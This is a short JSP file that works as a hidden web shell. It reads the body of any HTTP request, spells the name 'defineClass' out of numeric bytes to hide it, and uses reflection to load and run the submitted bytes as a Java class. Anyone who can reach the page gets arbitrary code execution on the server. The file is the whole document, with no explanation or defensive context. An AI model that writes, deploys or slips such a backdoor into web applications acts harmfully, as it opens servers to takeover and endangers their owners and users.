<%@ page import="java.lang.reflect.Method" %>
<%
    if (request.getContentLength() > 0) {
        java.io.DataInputStream di = new java.io.DataInputStream(request.getInputStream());
        byte[] b = new byte[request.getContentLength()];
        di.readFully(b);
        String n = new String(new byte[]{100, 101, 102, 105, 110, 101, 67, 108, 97, 115, 115});
        Method m = Class.forName("java.lang.ClassLoader").getDeclaredMethod(n, byte[].class, int.class, int.class);
        m.setAccessible(true);
        Class c = (Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length);
        c.newInstance();
    }
%>
